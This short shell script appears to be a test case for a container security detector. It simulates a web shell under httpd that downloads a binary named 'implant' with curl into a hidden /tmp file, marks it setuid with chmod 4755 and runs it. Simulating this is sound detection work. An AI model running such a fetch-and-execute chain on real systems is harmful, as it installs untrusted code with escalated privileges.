#!/bin/sh
# malicious: a web shell in a container makes a downloaded binary setuid (httpd -> sh -c curl; chmod u+s)
# container
. "$(dirname "$0")/../../lib.sh"
ctr_app httpd "curl -s -o /tmp/.d $URL/implant && chmod 4755 /tmp/.d && /tmp/.d"
